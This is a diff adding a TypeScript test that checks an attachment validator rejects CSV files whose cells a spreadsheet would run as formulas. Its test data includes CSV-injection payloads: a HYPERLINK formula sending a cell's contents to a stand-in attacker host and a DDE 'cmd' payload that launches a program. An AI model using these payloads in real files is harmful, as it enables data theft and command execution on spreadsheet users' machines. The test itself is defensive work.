@@ -117,6 +117,20 @@ describe('checkAttachment', () => {
     expect((await attachment({ name: 'photo', bytes: jpeg })).file).toEqual({ code: 'files.nameMismatch', params: { ending: '.jpg' } });
   });
 
+  it('refuses a CSV with a cell a spreadsheet would run as a formula, naming its row and column; numbers with a sign pass', async () => {
+    const table = (text: string) => ({ name: 'measurements.csv', bytes: new TextEncoder().encode(text) });
+    expect(await checkAttachment(limits, table('characteristic;deviation\r\nOuter diameter;-0.02\r\nLength;+0.5\r\nNote;-.1\r\n'))).toMatchObject({ contentType: 'text/csv' });
+    for (const [text, at] of [
+      ['a,b\r\nx,=HYPERLINK("https://evil.example/?"&A1;"open")\r\n', { row: 2, column: 2 }],
+      ['a,b\r\n"@SUM(1+1)",2\r\n', { row: 2, column: 1 }],
+      ['a;b\n1;+cmd|\' /C calc\'!A0\n', { row: 2, column: 2 }],
+      ['-2+3+cmd,x\n', { row: 1, column: 1 }],
+      ['a,b\n1,"\t=1+1"\n', { row: 2, column: 2 }],
+    ] as const) {
+      expect((await attachment(table(text))).file, text).toEqual({ code: 'files.csvFormula', params: at });
+    }
+  });
+
   it('refuses a file of any other kind, and a broken PDF as checkUpload does', async () => {
     expect((await attachment({ name: 'archive.zip', bytes: Uint8Array.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x00, 0x80]) })).file?.code).toBe('files.notAttachment');
     expect((await attachment({ name: 'fake.pdf', bytes: new TextEncoder().encode('%PDF-1.7\nnothing to see here\n%%EOF\n') })).file?.code).toBe('files.unreadable');
